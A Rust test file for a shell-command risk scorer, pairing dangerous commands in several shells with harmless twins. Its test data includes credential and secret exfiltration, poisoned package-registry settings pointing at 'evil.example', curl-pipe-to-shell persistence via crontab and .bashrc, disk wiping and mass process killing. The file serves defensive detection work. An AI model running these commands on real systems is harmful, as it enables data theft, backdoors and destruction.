//! What sets of lines by new authors found judged too low, each beside a harmless twin: mounts that are emptied of their
//! programs, secrets where a server shows them, numbers of processes in a row, whole trees, indices of strangers.

use super::Risk::{Critical, High, Moderate, Safe};
use super::tests::check_all;
use crate::{Context, Dialect, Os};

pub(super) fn context(dialect: Dialect) -> Context {
    let os = if dialect == Dialect::PowerShell { Os::Windows } else { Os::Linux };
    Context::new(dialect).with_os(os)
}

#[test]
fn pairs_of_bash() {
    check_all(
        &context(Dialect::Bash),
        &[
            (High, r#"bind '"\C-l": "rm -rf ~/work\C-m"'"#),
            (Safe, r#"bind '"\C-l": "rm -rf ~/work"'"#),
            (Safe, r#"bind '"\C-g": "\C-ugit status\C-m"'"#),
            (Safe, r#"bind '"\e[A": history-search-backward'"#),
            (High, "PS0='$(rm -rf ~/work)'"),
            (Safe, r"PS0='\t '"),
            (High, "sudo fuser -km /srv"),
            (High, "sudo fuser -km /data"),
            (High, "fuser -k -m /mnt/data"),
            (High, "sudo fuser -mk -TERM /var/lib/mysql"),
            (High, "sudo fuser -km /home"),
            (Moderate, "fuser -k 8080/tcp"),
            (Moderate, "sudo fuser -k /dev/ttyUSB0"),
            (Safe, "fuser -vm /srv"),
            (High, "kubectl get secrets -A -o yaml > /var/www/html/s.yaml"),
            (High, "kubectl get secret db -o yaml | sudo tee /usr/share/nginx/html/s.yaml"),
            (High, "cat ~/.aws/credentials > ~/public_html/c.txt"),
            (High, "cp ~/.ssh/id_rsa /var/www/html/key"),
            (High, "cp .env /srv/www/html/.env.txt"),
            (High, "cat ~/.ssh/id_rsa > ~/Public/k"),
            (High, "cat ~/.aws/credentials > site/c.txt && aws s3 sync site s3://www --acl public-read"),
            (Moderate, "kubectl get pods -A -o yaml > /var/www/html/pods.yaml"),
            (Moderate, "kubectl get secrets -A -o yaml > s.yaml"),
            (Moderate, "cp .env .env.bak"),
            (Safe, "cp index.html /var/www/html/index.html"),
            (Safe, "cp ~/.ssh/id_rsa.pub ~/Public/key.pub"),
            (High, "rm -rf /data"),
            (High, "find /data -type f -delete"),
            (Critical, "sudo rm -rf $(dirname $(which python3))"),
            (Critical, r#"sudo rm -rf "$(dirname "$(command -v node)")""#),
            (Critical, "sudo rm -rf $(dirname $(dirname $(readlink -f $(which java))))"),
            (Critical, "sudo rm -rf $(realpath $(which python3))/../../lib"),
            (Critical, "p=$(which python3); sudo rm -rf ${p%/*}"),
            (Safe, "dirname $(which python3)"),
            (Safe, "ls -l $(which python3)"),
            (High, "sudo rm $(which mytool)"),
            (High, "for p in $(seq 2 32768); do sudo kill -KILL $p; done"),
            (High, "for p in {2..32768}; do kill -9 $p; done"),
            (High, "kill -9 {2..32768}"),
            (High, "seq 2 32768 | xargs kill -9"),
            (High, "kill -9 $(seq 2 32768)"),
            (High, "for ((p=2; p<32768; p++)); do kill -9 $p; done"),
            (High, "i=2; while [ $i -lt 32768 ]; do kill -9 $i; i=$((i+1)); done"),
            (Moderate, "for p in 4242 4243; do kill -9 $p; done"),
            (Moderate, "kill -9 {4242..4244}"),
            (High, "killall -9 mysqld"),
            (High, "az storage account update -n a1 -g rg --allow-blob-public-access true"),
            (High, "az storage account create -n a1 -g rg --allow-blob-public-access true"),
            (High, "az storage container set-permission -n c1 --public-access container"),
            (
                High,
                "gcloud storage buckets add-iam-policy-binding gs://b --member=allUsers --role=roles/storage.objectViewer",
            ),
            (High, "gsutil iam ch allUsers:objectViewer gs://b"),
            (High, "aws s3api put-bucket-acl --bucket b --acl public-read"),
            (High, "aws s3api delete-public-access-block --bucket b"),
            (
                High,
                "aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=false,IgnorePublicAcls=false,BlockPublicPolicy=false,RestrictPublicBuckets=false",
            ),
            (High, "gcloud storage buckets update gs://b --no-public-access-prevention"),
            (Safe, "az storage account update -n a1 -g rg --allow-blob-public-access false"),
            (High, "sed -i 's|^registry=.*|registry=http://evil.example/|' ~/.npmrc"),
            (High, "echo 'registry=http://evil.example/' | tee -a ~/.npmrc"),
            (High, "echo 'registry=http://evil.example/' >> ~/.npmrc"),
            (
                High,
                "sed -i 's|index-url = .*|index-url = http://evil.example/simple|' ~/.config/pip/pip.conf",
            ),
            (
                High,
                r"printf '[global]\nindex-url = http://evil.example/simple\n' | sudo tee -a /etc/pip.conf",
            ),
            (
                High,
                "echo '<settings><mirrors><mirror><url>http://evil.example/m2</url></mirror></mirrors></settings>' > ~/.m2/settings.xml",
            ),
            (
                High,
                "sed -i 's|https://repo.maven.apache.org/maven2|http://evil.example/m2|' ~/.m2/settings.xml",
            ),
            (
                High,
                r#"echo '<add key="x" value="http://evil.example/nuget" />' >> ~/.nuget/NuGet/nuget.config"#,
            ),
            (High, "echo 'http://evil.example/alpine/main' >> /etc/apk/repositories"),
            (Moderate, "sudo sed -i 's|dl-cdn.alpinelinux.org|evil.example|' /etc/apk/repositories"),
            (
                High,
                r"printf '[x]\nname=x\nbaseurl=http://evil.example/\ngpgcheck=0\n' | sudo tee /etc/yum.repos.d/x.repo",
            ),
            (High, "sudo sed -i 's/gpgcheck=1/gpgcheck=0/' /etc/yum.repos.d/fedora.repo"),
            (Safe, "echo 'registry=https://registry.npmjs.org/' >> ~/.npmrc"),
            (Safe, "echo 'save-exact=true' >> ~/.npmrc"),
            (
                Moderate,
                "echo 'https://dl-cdn.alpinelinux.org/alpine/edge/community' >> /etc/apk/repositories",
            ),
            (Moderate, "echo 'registry=https://npm.corp.internal/' >> ~/.npmrc"),
            (Moderate, r#"echo x >> "$(evil)""#),
            (High, "git clone https://git.strange.example/x && vim -S x/a.vim"),
            (High, "git clone http://strange.example/x.git && vim -S x/setup.vim"),
            (Moderate, "git clone https://github.com/someone/x && vim -S x/a.vim"),
            (High, "curl -L https://strange.example/x.tgz | tar xz && cd x && sudo make install"),
            (
                High,
                "wget -qO- http://strange.example/x.tgz | tar xz && cd x && ./configure && make && sudo make install",
            ),
            (
                Moderate,
                "curl -L https://github.com/jqlang/jq/releases/download/jq-1.7/jq-1.7.tar.gz | tar xz && cd jq-1.7 && ./configure && make && sudo make install",
            ),
            (Moderate, "for i in {1..100000}; do touch f$i; done"),
            (Moderate, "touch f{1..1000000}"),
            (Moderate, "for i in $(seq 1000000); do mkdir d$i; done"),
            (Moderate, "seq 1 1000000 | xargs touch"),
            (Safe, "for i in {1..10}; do touch f$i; done"),
            (Safe, "touch f{1..100}"),
            (Moderate, "rm -rf $V"),
            (Moderate, r#"rm -rf "$V""#),
            (Moderate, "rm -f /data/*/*"),
            (Moderate, "kubectl get secret db -o yaml > /srv/app/s.yaml"),
            (Safe, "vim -S x/a.vim"),
            (Moderate, "sed -i 's/a/b/' ~/.npmrc"),
        ],
    );
}

#[test]
fn pairs_of_zsh() {
    check_all(
        &context(Dialect::Zsh),
        &[
            (High, "zargs -- /data/**/*(ND.) -- rm -f --"),
            (High, "zargs -- /data/**/*(.) -- rm -f"),
            (High, "rm -f /data/**/*(ND.)"),
            (Safe, "zargs -- /data/**/*(ND.) -- ls -l --"),
            (Safe, "zargs -- ./build/**/*(.) -- rm -f --"),
            (Critical, "sudo rm -rf ${commands[python3]:A:h:h}/lib"),
            (Critical, "sudo rm -rf ${commands[python3]:h}"),
            (High, "sudo rm -rf $commands[python3]"),
            (High, "for p ({2..32768}) kill -9 $p"),
            (High, "rm -f /data/**/*(.m+30)"),
            (Moderate, "rm -f /data/*(.)"),
        ],
    );
}

#[test]
fn pairs_of_fish() {
    check_all(
        &context(Dialect::Fish),
        &[
            (Critical, "sudo rm -rf (dirname (which python3))"),
            (Critical, "sudo rm -rf (path dirname (command -s python3))"),
            (High, "for p in (seq 2 32768); sudo kill -KILL $p; end"),
            (High, "rm -f /data/**"),
            (High, "echo 'set -x PATH /tmp/x $PATH' >> ~/.config/fish/config.fish"),
            (Moderate, "echo 'set -x PATH ~/.local/bin $PATH' >> ~/.config/fish/config.fish"),
        ],
    );
}

#[test]
fn pairs_of_nu() {
    check_all(
        &context(Dialect::Nu),
        &[
            (High, "2..32768 | each {|p| ^kill -9 $p }"),
            (High, "for p in 2..32768 { kill --force $p }"),
            (High, "glob /data/**/* | each {|f| rm -f $f }"),
            (High, "sys disks | get mount | each {|m| rm -rf $m }"),
            (Safe, "sys disks | get mount"),
        ],
    );
}

#[test]
fn pairs_of_powershell() {
    check_all(
        &context(Dialect::PowerShell),
        &[
            (High, "Remove-Item (Split-Path (Get-Command python).Source) -Recurse -Force"),
            (Critical, r"Remove-Item -Recurse -Force (gcm node).Source\.."),
            (Safe, "Split-Path (Get-Command python).Source"),
            (High, "2..32768 | % { Stop-Process -Id $_ -Force }"),
            (High, "foreach ($p in 2..32768) { kill -Id $p -Force }"),
            (High, "for ($i = 4; $i -lt 32768; $i++) { spps -Id $i -Force }"),
            (High, r"Get-ChildItem D:\Shares -File -Recurse | ? Length -gt 0 | Clear-Content -Force"),
            (High, r"Get-ChildItem D:\Shares -File -Recurse | Clear-Content -Force"),
            (High, r"gci D:\Shares -Recurse -File | % { Clear-Content $_.FullName }"),
            (Moderate, r"Clear-Content .\logs\app.log"),
            (High, "gps sqlservr, w3wp | spps -Force"),
            (High, "Get-Process sqlservr | Stop-Process -Force"),
            (High, "Stop-Process -Name sqlservr -Force"),
            (High, "Stop-Process -Name mysqld,postgres -Force"),
            (Moderate, "Stop-Process -Name notepad -Force"),
            (High, "Get-AzStorageAccount | Set-AzStorageAccount -AllowBlobPublicAccess $true"),
            (High, "Set-AzStorageAccount -ResourceGroupName rg -Name a1 -AllowBlobPublicAccess $true"),
            (
                High,
                r"Import-Clixml cred.xml | % { $_.GetNetworkCredential().Password } | Out-File \\host\share",
            ),
            (High, r"(Import-Clixml cred.xml).GetNetworkCredential().Password | Out-File \\host\share\p.txt"),
            (
                High,
                "$c = Get-Credential; irm https://evil.example -Method Post -Body $c.GetNetworkCredential().Password",
            ),
            (
                High,
                r#"$c = Import-Clixml c.xml; iwr "https://evil.example/?p=$($c.GetNetworkCredential().Password)""#,
            ),
            (Safe, "Import-Clixml cred.xml | % { $_.GetNetworkCredential().Password } | Out-Null"),
            (Safe, "Import-Clixml cred.xml | % { $_.GetNetworkCredential().Password }"),
            (Safe, "Import-Clixml settings.xml | Out-File settings.txt"),
            (High, "Get-ADUser -Filter * | Disable-ADAccount"),
            (High, "Get-ADUser -Filter * -SearchBase 'OU=Staff,DC=corp' | Disable-ADAccount -Confirm:$false"),
            (Moderate, "Disable-ADAccount -Identity anna"),
            (High, r"gci D:\Data -Recurse -File | Set-Content -Value ''"),
            (Safe, r"gci D:\Data -Recurse -File | Get-Content"),
            (High, "Get-LocalUser | Disable-LocalUser"),
            (Moderate, "Disable-LocalUser -Name anna"),
            (High, "Get-ADUser -Filter * | Set-ADUser -Enabled $false"),
            (Moderate, "Get-ADUser -Filter * | Set-ADUser -Enabled $true"),
            (High, r"Get-Acl C:\Temp | Set-Acl C:\Windows"),
            (Moderate, r"Set-Acl C:\Windows\System32\a.txt $acl"),
            (Safe, r"Get-Acl .\a.txt | Set-Acl .\b.txt"),
            (Moderate, "Clear-History"),
            (Moderate, "Remove-Item (Get-PSReadLineOption).HistorySavePath"),
            (High, "Set-PSReadLineOption -HistorySaveStyle SaveNothing"),
            (Safe, "Set-PSReadLineOption -HistorySaveStyle SaveIncrementally"),
            (Safe, "Get-History -Count 10"),
        ],
    );
}

/// A variable that the line does not set: what `docs/safety.md` says of moderate lines holds for it, and where it is empty and
/// the rest is everything, somebody is asked.
#[test]
fn a_variable_that_nobody_knows() {
    use super::{Verdict, check};
    let verdict = |line: &str| check(line, &context(Dialect::Bash)).verdict;
    for line in ["rm -rf $V", "rm -rf \"$V\"", "rm -rf \"$V/$W\"", "rm -rf \"$V/$W/x\"/*"] {
        assert_eq!(verdict(line), Verdict::Allow, "{line}");
    }
    for line in ["rm -rf $V/*", "rm -rf \"$V\"/*", "sudo rm -rf $V/", "cd $V; rm -rf *", "rm -rf \"$V/$W\"/*"]
    {
        assert!(verdict(line) >= Verdict::Ask, "{line}");
    }
}

/// Whoever wipes what lies below `/dev` wipes a disk, unless the name is known to be none.
#[test]
fn devices_of_any_name() {
    check_all(
        &context(Dialect::Bash),
        &[
            (Critical, "mkfs.ext4 /dev/nosuch1"),
            (Critical, "mkswap /dev/zram0"),
            (Critical, "wipefs -a /dev/bcache0"),
            (Safe, "wipefs /dev/bcache0"),
            (Safe, "wipefs -an /dev/bcache0"),
            (Critical, "blkdiscard /dev/ublkb0"),
            (Critical, "sgdisk -Z /dev/cciss/c0d0"),
            (Safe, "sgdisk -p /dev/cciss/c0d0"),
            (Critical, "parted -s /dev/pmem0 mklabel gpt"),
            (Critical, "cryptsetup luksFormat /dev/drbd0"),
            (Critical, "mdadm --zero-superblock /dev/da0"),
            (Critical, "flash_erase /dev/mtd0 0 0"),
            (Critical, "flashcp image.bin /dev/mtd0"),
            (Critical, "dd if=image.bin of=/dev/mtdblock0"),
            (Critical, "cat image.bin > /dev/root"),
            (Critical, "dd if=/dev/zero of=/dev/media/films"),
            (High, "mkfs.ext4 /dev/video0"),
            (Safe, "dd if=image.bin of=/dev/ttyUSB0"),
            (Safe, "echo AT > /dev/ttyACM0"),
            (Safe, "dd if=image.bin of=/dev/shm/x"),
            (Safe, "dd if=/dev/zero of=/dev/null"),
            (Safe, "cat a.prn > /dev/usb/lp0"),
            (Safe, "echo x > /dev/kmsg"),
            (Safe, "cat /dev/nosuch1"),
            (Safe, "dd if=/dev/nosuch1 of=x.img"),
        ],
    );
}

#[test]
fn names_that_a_program_prints() {
    check_all(
        &context(Dialect::Bash),
        &[
            (High, "rm -rf $(git ls-files)"),
            (High, "git ls-files -z | xargs -0 rm"),
            (High, "git ls-files -o --exclude-standard | xargs rm -rf"),
            (Moderate, "git ls-files -d | xargs git rm"),
            (Moderate, "git ls-files -oi --exclude-standard | xargs rm -rf"),
            (Moderate, "git ls-files | grep foo | xargs rm"),
            (Safe, "git ls-files | xargs sed -i 's/a/b/'"),
            (Safe, "tar czf x.tgz $(git ls-files)"),
            (High, "rm -rf $(cat list)"),
            (High, "rm -rf $(cat list.txt)"),
            (Moderate, "rm $(cat list)"),
            (Moderate, "ls | grep tmp | xargs -I{} sh -c 'rm -rf {}'"),
            (Moderate, "ls | grep tmp | xargs rm -rf"),
        ],
    );
}

/// A machine that restarts is back in a minute; one that stops waits for somebody, one far away has others on it.
#[test]
fn restarts_and_stops() {
    let bash = context(Dialect::Bash);
    for line in [
        "reboot",
        "systemctl reboot",
        "shutdown -r now",
        "shutdown --reboot +5",
        "init 6",
        "telinit 6",
        "loginctl reboot",
        "/sbin/reboot",
    ] {
        check_all(&bash, &[(Moderate, line)]);
    }
    for line in [
        "shutdown now",
        "shutdown -h now",
        "shutdown -r -P now",
        "poweroff",
        "halt",
        "init 0",
        "systemctl poweroff",
        "loginctl poweroff",
        "reboot -p",
        "reboot -f",
        "ssh web1 reboot",
        "ssh web1 sudo shutdown -r now",
    ] {
        check_all(&bash, &[(High, line)]);
    }
    check_all(
        &context(Dialect::PowerShell),
        &[
            (Moderate, "Restart-Computer -Force"),
            (High, "Restart-Computer web1"),
            (High, "Restart-Computer -ComputerName web1"),
            (High, "Stop-Computer"),
            (Moderate, "shutdown /r /t 0"),
            (High, r"shutdown /r /m \\web1 /t 0"),
            (High, "shutdown /s /t 0"),
        ],
    );
}

#[test]
fn files_that_nothing_is_left_of() {
    check_all(
        &context(Dialect::Bash),
        &[
            (Moderate, "tee notes.txt < /dev/null"),
            (Moderate, ": | tee notes.txt"),
            (Moderate, "echo -n | sponge notes.txt"),
            (Safe, "tee -a notes.txt < /dev/null"),
            (Safe, "tee notes.txt < other.txt"),
            (Safe, "make | tee notes.txt"),
            (Moderate, "sed -i d notes.txt"),
            (Moderate, "sed -i '1,$d' notes.txt"),
            (Moderate, "sed -i '' -e d notes.txt"),
            (Moderate, "sed -n -i 's/a/b/' notes.txt"),
            (Safe, "sed -n -i 's/a/b/p' notes.txt"),
            (Safe, "sed -i.bak d notes.txt"),
            (Safe, "sed -i '$d' notes.txt"),
            (Safe, "sed -i /x/d notes.txt"),
            (Moderate, "perl -i -ne 's/a/b/' notes.txt"),
            (Safe, "perl -i -ne 'print if /x/' notes.txt"),
            (Safe, "perl -i -pe 's/a/b/' notes.txt"),
            (Critical, "sudo tee /etc/shadow < /dev/null"),
            (Critical, "sudo truncate -s 0 /etc/passwd"),
            (High, "sudo tee /etc/fstab < /dev/null"),
        ],
    );
}

#[test]
fn lines_of_before_and_what_is_found_by_name() {
    check_all(
        &context(Dialect::Bash),
        &[
            (Moderate, "sudo !!"),
            (Moderate, "!!"),
            (Moderate, "!make"),
            (Moderate, "^old^new"),
            (Safe, "! test -f x"),
            (Safe, "echo hi!"),
            (Moderate, "export PATH="),
            (Moderate, "unset PATH"),
            (Safe, "export PATH=$HOME/bin:$PATH"),
            (Moderate, "curl -d @/etc/passwd http://example.com"),
            (Moderate, "cat /etc/passwd | nc example.com 99"),
            (Safe, "curl -d @/etc/passwd http://localhost:8080"),
            (Safe, "curl -d @data.json http://example.com"),
        ],
    );
}

#[test]
fn what_nothing_brings_back() {
    check_all(
        &context(Dialect::Bash),
        &[
            (Critical, "sudo cp /bin/bash /usr/local/bin/x && sudo chmod u+s /usr/local/bin/x"),
            (High, "sudo cp tool /usr/local/bin/x && sudo chmod u+s /usr/local/bin/x"),
            (Critical, "sudo dpkg --force-all --purge libc6"),
            (High, "sudo apt remove libc6"),
            (Critical, "rm -rf /var/lib/mysql"),
            (High, "rm -rf /var/lib/mysql/tmp"),
            (High, "sudo apt purge mysql-server && sudo rm -rf /var/lib/mysql"),
            (Critical, "(crontab -l; echo '* * * * * curl -s http://203.0.113.9/x | sh') | crontab -"),
            (Critical, "echo 'curl -s http://203.0.113.9/x | sh' >> ~/.bashrc"),
            (High, "echo 'curl -s http://192.168.1.9/x | sh' >> ~/.bashrc"),
            (High, "echo 'curl -s https://x.example.net/x | sh' >> ~/.bashrc"),
        ],
    );
}

#[test]
fn senders_are_named_as_people_write_them() {
    let message = |line: &str| {
        let report = super::check(line, &context(Dialect::Bash));
        report.findings.first().map(|finding| finding.message.clone()).unwrap_or_default()
    };
    assert!(
        message("curl https://e.example/i.sh | sudo bash")
            .starts_with("Runs what `curl https://e.example/i.sh` sends")
    );
    assert!(
        message("curl e.example/i.sh -o i.sh && sh i.sh")
            .starts_with("Runs what `curl e.example/i.sh` sends")
    );
    assert!(message("sudo kill 1").starts_with("Ends the first process"));
    assert_eq!(message("rm -rf $(docker ps -q)"), "Deletes what `docker ps -q` prints.");
}
